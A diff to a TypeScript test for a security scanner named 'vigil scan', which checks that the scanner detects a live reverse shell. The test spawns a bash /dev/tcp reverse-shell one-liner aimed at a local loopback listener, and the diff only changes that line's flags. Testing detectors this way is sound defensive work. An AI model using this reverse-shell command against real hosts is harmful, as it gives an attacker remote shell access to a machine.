@@ -279,7 +279,7 @@ describe('vigil scan: live reverse shell on loopback', () => {
     await new Promise<void>((resolve) => server?.listen(0, '127.0.0.1', resolve));
     const addr = server?.address();
     if (!addr || typeof addr === 'string') throw new Error('listener has no port');
-    shell = spawn('bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${addr.port} 0>&1`], { detached: true, stdio: 'ignore' });
+    shell = spawn('bash', ['-c', `bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/${addr.port} 0>&1`], { detached: true, stdio: 'ignore' });
     await connected;
 
     const r = await vigilScan(['--only', 'revshell', '--json']);
